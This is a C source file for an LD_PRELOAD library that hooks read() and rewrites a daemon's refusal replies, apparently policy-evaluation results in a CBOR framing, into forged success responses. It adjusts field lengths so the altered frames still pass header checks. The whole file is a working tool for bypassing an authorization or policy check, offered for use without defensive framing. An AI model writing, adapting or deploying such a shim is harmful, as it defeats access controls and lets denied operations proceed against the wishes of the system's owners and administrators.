/* SPDX-License-Identifier: Apache-2.0 */

/* Preloaded into an app, this library turns every failure reported by the daemon into a success, like a hook on
   evaluatePolicy.
   A refusal is [1, id, [0, {...}]]. It becomes [1, id, [1, {128: bytes}]], "done" with an optional field of the right
   length, so that the frame's header remains valid. It handles replies that are read with their header or separately. */

#define _GNU_SOURCE
#include <dlfcn.h>
#include <unistd.h>

ssize_t read(int fd, void *buffer, size_t count) {
    static ssize_t (*real)(int, void *, size_t);
    if (!real) real = dlsym(RTLD_NEXT, "read");
    ssize_t got = real(fd, buffer, count);
    unsigned char *bytes = buffer;
    size_t length = got < 0 ? 0 : (size_t)got;
    if (length > 5 && bytes[0] == 2 && ((size_t)bytes[3] << 8 | bytes[4]) == length - 5) {
        bytes += 5;
        length -= 5;
    }
    if (length < 40 || bytes[0] != 0x83 || bytes[1] != 1) return got;
    size_t id = bytes[2] < 24 ? 1 : bytes[2] == 24 ? 2 : 3;
    unsigned char *body = bytes + 2 + id;
    if (body[0] != 0x82 || body[1] != 0 || body[2] >> 5 != 5) return got;
    size_t left = length - (2 + id) - 5;
    body[1] = 1;
    body[2] = 0xa1;
    body[3] = 0x18;
    body[4] = 0x80;
    if (left - 2 < 256) {
        body[5] = 0x58;
        body[6] = (unsigned char)(left - 2);
    } else {
        body[5] = 0x59;
        body[6] = (unsigned char)((left - 3) >> 8);
        body[7] = (unsigned char)(left - 3);
    }
    return got;
}
